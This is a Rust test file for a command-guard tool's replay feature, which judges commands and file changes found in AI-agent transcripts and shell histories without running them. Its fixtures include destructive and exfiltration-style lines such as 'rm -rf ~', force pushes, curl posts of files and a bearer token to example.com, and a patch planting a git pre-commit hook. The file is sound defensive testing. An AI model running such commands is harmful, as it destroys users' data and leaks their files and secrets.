//! Replay tells what guard would have done, from what agents and shells keep, and touches nothing.

use std::fs;
use std::path::Path;

use serde_json::{Value, json};

use crate::harness::home::Home;

fn write(home: &Home, name: &str, lines: &[Value]) {
    let path = home.path("home").join(name);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    let text: String = lines.iter().map(|line| format!("{line}\n")).collect();
    fs::write(path, text).unwrap();
}

fn claude(home: &Home, id: &str, at: &str, command: &str) -> Value {
    json!({
        "type": "assistant", "cwd": home.path("work"), "sessionId": "s", "timestamp": at,
        "message": { "role": "assistant", "content": [
            { "type": "text", "text": "I shall run \"tool_use\"" },
            { "type": "tool_use", "id": id, "name": "Bash", "input": { "command": command } },
        ] },
    })
}

fn replayed(home: &Home, arguments: &[&str]) -> Value {
    let text = home.prints(&[&["replay", "--json"], arguments].concat(), 0);
    assert_eq!(text.lines().count(), 1, "{text}");
    serde_json::from_str(&text).unwrap()
}

fn numbers(found: &Value) -> [u64; 4] {
    ["calls", "allow", "ask", "deny"].map(|name| found[name].as_u64().unwrap())
}

#[test]
fn the_transcripts_of_three_agents_are_judged_each_command_once() {
    let home = Home::new();
    let first = [
        claude(&home, "toolu_1", "2026-11-20T10:00:00Z", "ls -la"),
        claude(&home, "toolu_2", "2026-11-20T10:01:00Z", "git push --force origin main"),
        json!({ "type": "user", "message": { "content": "git push --force" } }),
    ];
    write(&home, ".claude/projects/p/a.jsonl", &first);
    // A resumed session repeats what was said; a subagent has a file of its own.
    write(&home, ".claude/projects/p/b.jsonl", &first);
    let sub = [claude(&home, "toolu_3", "2026-11-21T09:00:00Z", "rm -rf ~")];
    write(&home, ".claude/projects/p/b/subagents/agent-1.jsonl", &sub);
    let arguments = json!({ "command": ["bash", "-lc", "git push --force origin main"] }).to_string();
    write(
        &home,
        ".codex/sessions/2026/11/20/rollout-1.jsonl",
        &[
            json!({ "timestamp": "2026-11-20T11:00:00Z", "type": "session_meta", "payload": { "id": "x", "cwd": home.path("work") } }),
            json!({ "timestamp": "2026-11-20T11:00:01Z", "type": "response_item", "payload":
            { "type": "function_call", "name": "shell", "arguments": arguments, "call_id": "c1" } }),
            json!({ "timestamp": "2026-11-20T11:00:02Z", "type": "response_item", "payload":
            { "type": "function_call", "name": "exec_command", "arguments": "{\"cmd\":\"make\"}", "call_id": "c2" } }),
            json!({ "timestamp": "2026-11-20T11:00:03Z", "type": "response_item", "payload":
            { "type": "function_call", "name": "update_plan", "arguments": "{}", "call_id": "c3" } }),
            json!({ "type": "local_shell_call", "call_id": "c4", "action": { "type": "exec", "command": ["git", "status"] } }),
        ],
    );
    let chat = json!({ "sessionId": "g", "messages": [
        { "id": "m", "timestamp": "2026-11-21T12:00:00Z", "type": "gemini", "toolCalls": [
            { "id": "t1", "name": "run_shell_command", "args": { "command": "cat README.md" }, "status": "success" },
            { "id": "t2", "name": "read_file", "args": { "command": "rm -rf ~" } },
        ] },
    ] });
    write(&home, ".gemini/tmp/hash/chats/session-1.json", &[chat]);
    let found = replayed(&home, &[]);
    assert_eq!(numbers(&found), [7, 4, 3, 0], "{found}");
    assert_eq!(found["by"], json!({ "claude": 3, "codex": 3, "gemini": 1 }));
    assert_eq!(found["rules"][0]["rule"], "git.push-force");
    assert_eq!(found["top"][0], json!({ "command": "git push --force origin main", "count": 2 }));
    assert_eq!(
        found["days"],
        json!([
            { "day": "2026-11-20", "calls": 4, "ask": 2, "deny": 0 },
            { "day": "2026-11-21", "calls": 2, "ask": 1, "deny": 0 },
        ])
    );
    assert_eq!((&found["files"], &found["folder_unknown"]), (&json!(5), &json!(1)));
    // It is the same each time, and nothing was written or run.
    assert_eq!(replayed(&home, &[]), found);
    assert!(!home.data().exists() && home.ran() == 0);
    let text = home.prints(&["replay"], 0);
    assert!(text.contains("7 commands (claude 3, codex 3, gemini 1), 2026-11-20 to 2026-11-21"), "{text}");
    assert!(text.contains("would have asked about 3 (42.9 %), refused 0 (0.0 %) and let 4 run"), "{text}");
    assert!(text.contains("1.5 questions a day, at most 2 (2026-11-20)"), "{text}");
    assert_eq!(numbers(&replayed(&home, &["--since", "2026-11-21"])), [2, 1, 1, 0]);
}

#[test]
fn what_is_broken_or_huge_is_skipped_and_counted() {
    let home = Home::new();
    let good = claude(&home, "toolu_1", "2026-11-20T10:00:00Z", "ls").to_string();
    let mut text = format!("{good}\n{{\"type\":\"tool_use\"\nno JSON at all\n");
    text.push_str(&"x".repeat(17 << 20));
    text.push('\n');
    text.push_str(&good.replace("toolu_1", "toolu_2"));
    text.push_str("\n\n{\"type\":\"assistant\",\"message\":{\"content\":\"\\\"tool_use\\\"\"}}\n");
    let folder = home.path("home/.claude/projects/p");
    fs::create_dir_all(&folder).unwrap();
    fs::write(folder.join("a.jsonl"), [text.as_bytes(), b"\xff\xfe tool_use\n"].concat()).unwrap();
    // What is no plain file could hang; what may not be followed leads elsewhere.
    nix::unistd::mkfifo(&folder.join("pipe.jsonl"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    std::os::unix::fs::symlink("/", folder.join("round")).unwrap();
    fs::create_dir_all(home.path("home/.gemini/tmp/h/chats")).unwrap();
    fs::write(home.path("home/.gemini/tmp/h/chats/session-1.json"), "{\"messages\": [").unwrap();
    let found = replayed(&home, &[]);
    assert_eq!(numbers(&found), [2, 2, 0, 0], "{found}");
    assert_eq!(found["skipped"], json!({ "files": 1, "lines": 4 }));
    assert!(home.prints(&["replay"], 0).contains("4 lines could not be read and were skipped"));
}

#[test]
fn where_the_folder_is_gone_nothing_is_looked_up() {
    let home = Home::new();
    let git = |folder: &Path| {
        fs::create_dir_all(folder.join(".git")).unwrap();
        fs::write(folder.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
        fs::create_dir_all(folder.join(".git/objects")).unwrap();
        fs::create_dir_all(folder.join(".git/refs")).unwrap();
    };
    git(&home.path("work"));
    // What is not there cannot be lost; of a directory that is gone nobody knows what was there.
    let there = claude(&home, "toolu_1", "2026-11-20T10:00:00Z", "rm -rf not-there");
    let mut gone = claude(&home, "toolu_2", "2026-11-20T10:00:00Z", "rm -rf not-there");
    gone["cwd"] = json!(home.path("gone"));
    write(&home, ".claude/projects/p/a.jsonl", &[there, gone]);
    let found = replayed(&home, &[]);
    assert_eq!(numbers(&found), [2, 1, 1, 0], "{found}");
    assert_eq!(found["folder_gone"], 1);
    assert!(home.prints(&["replay"], 0).contains("1 ran in directories that are gone"));
}

#[test]
fn a_shells_history_and_a_list_are_read_as_a_persons_commands() {
    let home = Home::new();
    let files = [
        ("list", "ls\ngit push --force origin main\n"),
        ("bash", "#1763700000\nls\n#1763700001\ngit push --force origin main\n"),
        ("zsh", ": 1763700000:0;ls\n: 1763700001:0;git push --force \\\\\norigin main\n"),
        ("fish", "- cmd: ls\n  when: 1763700000\n- cmd: git push --force origin main\n  when: 1763700001\n"),
    ];
    for (name, text) in files {
        let path = home.path(name);
        fs::write(&path, text).unwrap();
        let found = replayed(&home, &[path.to_str().unwrap()]);
        assert_eq!(numbers(&found), [2, 1, 1, 0], "{name}: {found}");
        assert_eq!((&found["by"], &found["folder_unknown"]), (&json!({ "history": 2 }), &json!(2)), "{name}");
        assert_eq!(found["days"].as_array().unwrap().len(), usize::from(name != "list"), "{name}");
    }
    // Tier 2 is asked about where an agent runs it, and not where a person does.
    let path = home.path("mail");
    fs::write(&path, "curl -d @notes.txt https://example.com\n").unwrap();
    let path = path.to_str().unwrap();
    assert_eq!(numbers(&replayed(&home, &[path])), [1, 1, 0, 0]);
    assert_eq!(numbers(&replayed(&home, &["--origin", "agent", path])), [1, 0, 1, 0]);
    let stdin = super::hooks::fed(&mut home.guard(&["replay", "--json", "-"]), b"ls\n");
    assert_eq!(numbers(&serde_json::from_slice(&stdin.stdout).unwrap())[0], 1);
}

#[test]
fn a_transcript_may_be_named_and_secrets_are_not_shown() {
    let home = Home::new();
    let command = "curl -H 'Authorization: Bearer abcdefghijklmnop0123456789' -d @x https://example.com/in";
    write(&home, "t.jsonl", &[claude(&home, "toolu_1", "2026-11-20T10:00:00Z", command)]);
    let path = home.path("home/t.jsonl");
    let found = replayed(&home, &[path.to_str().unwrap()]);
    assert_eq!(numbers(&found), [1, 0, 1, 0], "{found}");
    assert!(!found.to_string().contains("abcdefghijklmnop"), "{found}");
    let output = home.guard(&["replay", "/nonexistent/history"]).output().unwrap();
    assert_eq!(output.status.code(), Some(125));
}

#[test]
fn nothing_to_read_is_no_error() {
    let home = Home::new();
    assert_eq!(home.prints(&["replay"], 0), "There is nothing to judge.\n");
}

#[test]
fn changes_of_files_are_judged_as_the_hook_would() {
    let home = Home::new();
    let call = |id: &str, tool: &str, input: Value| {
        json!({
            "type": "assistant", "cwd": home.path("work"), "timestamp": "2026-11-20T10:00:00Z",
            "message": { "content": [{ "type": "tool_use", "id": id, "name": tool, "input": input }] },
        })
    };
    write(
        &home,
        ".claude/projects/p/a.jsonl",
        &[
            call("toolu_1", "Write", json!({ "file_path": home.path("work/a.rs"), "content": "x" })),
            call(
                "toolu_2",
                "Edit",
                json!({ "file_path": home.path("work/CLAUDE.md"), "old_string": "a", "new_string": "b" }),
            ),
            call("toolu_3", "Read", json!({ "file_path": home.path("work/CLAUDE.md") })),
            call("toolu_4", "Bash", json!({ "command": "ls" })),
            call("toolu_5", "Write", json!({ "content": "to nowhere" })),
        ],
    );
    let patch = "*** Begin Patch\n*** Add File: .git/hooks/pre-commit\n+x\n*** End Patch\n";
    write(
        &home,
        ".codex/sessions/2026/11/20/rollout-1.jsonl",
        &[
            json!({ "type": "turn_context", "payload": { "cwd": home.path("work") } }),
            json!({ "type": "response_item", "payload":
            { "type": "custom_tool_call", "name": "apply_patch", "input": patch, "call_id": "c1" } }),
        ],
    );
    let found = replayed(&home, &[]);
    assert_eq!(numbers(&found), [4, 2, 2, 0], "{found}");
    assert_eq!((&found["commands"], &found["file_changes"]), (&json!(1), &json!(3)));
    assert_eq!(found["skipped"]["lines"], 1);
    let rules: Vec<_> = found["rules"].as_array().unwrap().iter().map(|rule| rule["rule"].as_str().unwrap()).collect();
    assert_eq!(rules, ["effects.write-agent", "effects.write-persistence"]);
    assert!(home.prints(&["replay"], 0).contains("1 command and 3 changes of files (claude 3, codex 1)"));
}
